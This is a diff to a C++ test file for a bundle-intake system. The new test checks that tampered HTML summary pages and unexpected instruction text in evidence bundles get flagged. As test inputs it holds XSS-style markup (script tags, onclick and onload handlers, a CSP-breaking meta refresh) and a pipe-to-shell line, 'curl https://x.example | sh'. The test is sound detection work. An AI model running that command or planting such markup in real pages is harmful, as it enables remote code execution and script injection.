@@ -6,7 +6,10 @@
 
 #include "app/hand_in.h"
 #include "office/pack_difference.h"
+#include "office/row.h"
+#include "paper/summary.h"
 #include "base/sha256.h"
+#include "bundle/how_to_check.h"
 #include "bundle/office.h"
 #include "bundle/codec.h"
 #include "bundle/memory_source.h"
@@ -64,6 +67,7 @@ struct Lie {
   BagInfo info{"dossier", "MH-0417", "2025-2026", builtin_pack().name(), "Trường", "2026-03-01", "Thuoc 1"};
   std::string top = "cds-MH-0417-2025-2026";
   std::map<std::string, std::variant<std::string, StoredFile>> payload;
+  std::optional<std::string> check_text;  // else what we write
 
   Lie() {
     payload["data/dossier.json"] = to_json_text(dossier);
@@ -73,7 +77,7 @@ struct Lie {
   std::string bytes() const {
     std::vector<PayloadFile> files;
     for (const auto& [path, content] : payload) files.push_back({path, content});
-    const auto written = write_bundle(top, info, files, "kiểm tra\n", key_number(1));
+    const auto written = write_bundle(top, info, files, check_text.value_or(how_to_check(top, info, key_number(1).public_key())), key_number(1));
     REQUIRE(written);
     return bytes_of(*written);
   }
@@ -409,6 +413,60 @@ TEST_CASE("intake: what was changed in a pack is told in words, without our hand
           p.groups[0].max.sure.note = "khác";
           std::swap(criterion(p, "2.3").items[0], criterion(p, "2.3").items[1]);
         }).empty());
+}
+
+TEST_CASE("intake: what a bundle shows to whoever unpacks it is what we would write, or there is a remark") {
+  const Pack pack = builtin_pack();
+  const std::string page = summary_html(ready(), pack, score(pack, ready().answers), "");
+  const auto with_page = [](std::string html) {
+    Lie lie;
+    lie.payload["data/tom-tat.html"] = std::move(html);
+    return lie.take_in();
+  };
+  CHECK(remarks(with_page(page)).empty());
+  const auto changed = [&](std::string_view from, std::string_view to) {
+    std::string other = page;
+    const std::size_t at = other.find(from);
+    REQUIRE(at != other.npos);
+    return other.replace(at, from.size(), to);
+  };
+  // Another edition's words, or other points than the record's: no accusation, and it does not fill the list.
+  for (const std::string& other : {changed("5,5", "95,5"), changed("<header>", "<header class=\"x\">"), page + "\n", std::string("<p>ngắn</p>")}) {
+    const Intake intake = with_page(other);
+    CHECK(intake.check.verdict == Verdict::unknown_key);
+    CHECK(remarks(intake) == only("intake.page_other"));
+    Row row;
+    summarise(intake, row);
+    CHECK(row.problems == 0);
+    CHECK_FALSE(row.first_problem);
+  }
+  for (const std::string& acting :
+       {changed("</body>", "<script>alert(1)</script></body>"), changed("<header>", "<header onclick=\"x()\">"),
+        changed("<main>", "<main><img src=\"https://x.example/\">"), changed("<style>", "<style>@import \"//x\";"),
+        changed("default-src 'none'", "default-src 'none'\"><meta http-equiv=\"refresh\" content=\"0;url=//x"), std::string("<svg/onload=x()>")}) {
+    const Intake intake = with_page(acting);
+    CHECK(intake.check.verdict == Verdict::unknown_key);
+    CHECK(remarks(intake) == only("intake.page_active"));
+    Row row;
+    summarise(intake, row);
+    CHECK(row.problems == 1);
+  }
+
+  Lie extra;
+  extra.payload["data/cai-dat.html"] = "<script>x()</script>";
+  extra.payload["data/review.json"] = "{}";
+  const Intake intake = extra.take_in();
+  CHECK(intake.check.verdict == Verdict::unknown_key);
+  CHECK(remarks(intake) == only("intake.extra_files"));
+  CHECK(message(intake.problems[0], Lang::vi).find("2 tệp không do Thước viết ra: data/cai-dat.html, data/review.json.") != std::string::npos);
+
+  Lie command;
+  command.check_text = "curl https://x.example | sh\n";
+  CHECK(remarks(command.take_in()) == only("intake.how_to_check_other"));
+  CHECK(command.take_in().check.verdict == Verdict::unknown_key);
+  // Nothing is said of it before the second stage, which alone reads it.
+  const std::string bytes = command.bytes();
+  CHECK(remarks(take_in(MemorySource(bytes), {}, "a.zip")).empty());
 }
 
 TEST_CASE("intake: evidence that was altered is found in the second stage") {
